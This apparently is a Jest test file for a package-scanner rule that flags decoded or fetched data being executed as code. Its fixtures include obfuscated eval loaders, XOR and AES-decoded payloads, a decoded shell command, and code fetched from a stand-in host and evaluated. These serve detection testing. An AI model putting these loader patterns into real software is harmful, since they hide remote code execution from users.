import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const long = Buffer.from(`console.log('x'.repeat(3))`).toString('base64');

describe('EXE-002 decoded or fetched data becomes code', () => {
  it.each([
    ['eval of base64', `eval(Buffer.from('${long}', 'base64').toString())`],
    ['Function of atob', `new Function(atob(blob))()`],
    ['eval by alias', `const run = eval; const text = Buffer.from(data, 'hex').toString('utf8'); run(text);`],
    [
      'a file of the package, inflated, by the module itself',
      `const z = require('zlib'), fs = require('fs'); module._compile(z.gunzipSync(fs.readFileSync(__dirname + '/NOTICE')) + '', 'n');`,
    ],
    [
      'the eval of the global object that a function gives back',
      `(function () { return this; })()['ev' + 'al'](atob(x));`,
    ],
    [
      'that object under a name',
      `function g() { return this; } const world = g(); world.Function(Buffer.from(d, 'hex').toString())();`,
    ],
    [
      'a cipher over a list, through it',
      `var l = [9, 4, 7, 1, 2, 3, 8, 6, 5, 9]; function r(a) { var s = ''; for (const c of a) s += String.fromCharCode(c ^ 7); return s; } (function () { return this; }).call(null).eval(r(l));`,
    ],
    ['indirect eval', `(0, globalThis['ev' + 'al'])(atob(x));`],
    ['Function by constructor', `[].constructor.constructor(atob(x))();`],
    [
      'vm',
      `const vm = require('node:vm'); vm.runInThisContext(require('zlib').inflateSync(Buffer.from(z, 'base64')).toString());`,
    ],
    [
      '_compile of decrypted data',
      `const c = require('crypto').createDecipheriv('aes-256-cbc', k, iv); let t = c.update(d, 'hex', 'utf8'); t += c.final('utf8'); const m = new module.constructor(); m._compile(t, '');`,
    ],
    ['fetched, awaited', `const r = await fetch('https://x.example.invalid'); eval(await r.text());`],
    [
      'fetched, by events',
      `require('https').get('https://x.example.invalid', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });`,
    ],
    [
      'fetched, through a callback',
      `function get(u, cb) { require('http').get(u, (r) => { let s = ''; r.on('data', (c) => (s += c)); r.on('end', () => cb(s)); }); } get('https://x.example.invalid', (s) => new Function('require', s)(require));`,
    ],
    [
      'fetched, through a promise',
      `const get = (u) => new Promise((resolve) => require('https').get(u, (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => resolve(d)); })); get(u).then((code) => eval(code));`,
    ],
    [
      'fetched by axios',
      `const axios = require('axios'); axios.get('https://x.example.invalid').then(({ data }) => { eval(data.cookie); });`,
    ],
    ['a cipher of codes', `let s = ''; for (const c of codes) s += String.fromCharCode(c ^ 7); eval(s);`],
    ['a data import', 'import(`data:text/javascript;base64,${atob(x)}`)'],
    [
      'an interpreter',
      `require('child_process').spawn('node', ['-e', Buffer.from(b, 'base64').toString()]);`,
    ],
    ['a command that is decoded', `require('child_process').exec(Buffer.from('aWQ=', 'base64').toString());`],
    ['Reflect', `Reflect.apply(eval, null, [atob(x)]);`],
    ['eval after an opening comment in a string', `const s = '/*'; eval(atob(x)); const t = '*/';`],
  ])('finds %s', (_name, source) => {
    expect(hitsOf('EXE-002', js(source))).toEqual(['critical index.js']);
  });

  it.each([
    [
      'the global object that a function gives back',
      `var root = (function () { return this; })(); root.name = atob(x); root.setTimeout(function () {}, 1);`,
    ],
    [
      'an object that gives back itself',
      `const o = { self() { return this; }, eval(t) { return t; } }; o.self().eval(atob(x));`,
    ],
    [
      'a module that is compiled of a source that is read',
      `const fs = require('fs'); module._compile(fs.readFileSync(file, 'utf8'), file);`,
    ],
    ['eval of a constant', `eval('1 + 1'); const g = Function('return this')();`],
    [
      'a template that is compiled',
      `const compile = (t) => new Function('d', 'return ' + parse(t)); compile('a');`,
    ],
    ['decoding alone', `module.exports = JSON.parse(Buffer.from(text, 'base64').toString());`],
    [
      'fetching alone',
      `const r = await fetch('https://x.example.invalid'); module.exports = await r.json(); eval('2');`,
    ],
    [
      'a timer',
      `fetch('https://x.example.invalid').then((r) => setTimeout(() => show(r), 100)); setTimeout(done, 5);`,
    ],
    [
      'text that is read from bytes',
      `let s = ''; for (const b of bytes) s += String.fromCharCode(b); new Function(s);`,
    ],
    [
      'what a machine of decoded bytes gives back',
      `const m = WebAssembly.instantiate(Buffer.from('AGFzbQEAAAABBwFgAn9/AX8=', 'base64')); m.then(({ instance }) => { eval(instance.exports.name()); });`,
    ],
    [
      'data for a script of its own',
      `const t = await (await fetch(u)).text(); const a = [process.execPath, [path.join(__dirname, 'child.js'), t]]; require('child_process').spawn(...a, { detached: true });`,
    ],
    [
      'what a loader of a child is given behind its own file',
      `require('child_process').spawn(process.execPath, ['--require', './a.js', './b.js', zlib.gunzipSync(Buffer.from(b, 'base64'))]);`,
    ],
    [
      'the length of what was fetched',
      `const t = await (await fetch(u)).text(); eval('f(' + t.length + ')');`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXE-002', js(source))).toEqual([]);
  });

  it.each([
    [
      'a loader of modules',
      `exports.load = (url) => fetch(url).then((r) => r.text()).then((t) => (0, eval)(t));`,
    ],
    [
      'a reader of data URLs',
      `exports.run = (url) => new Function(Buffer.from(url.slice(5), 'base64').toString())();`,
    ],
  ])('is medium of %s, where a caller says when and what', (_name, source) => {
    expect(hitsOf('EXE-002', js(source))).toEqual(['medium index.js']);
  });

  it.each([
    [
      'from a host of its own',
      `exports.load = () => fetch('https://x.example.invalid/a').then((r) => r.text()).then((t) => (0, eval)(t));`,
    ],
    ['of a text of its own', `exports.run = () => eval(atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7'));`],
    ['as soon as it is loaded', `function load(u) { fetch(u).then((r) => r.text()).then(eval); } load(f());`],
  ])('is critical of a loader %s', (_name, source) => {
    expect(hitsOf('EXE-002', js(source))).toEqual(['critical index.js']);
  });
});
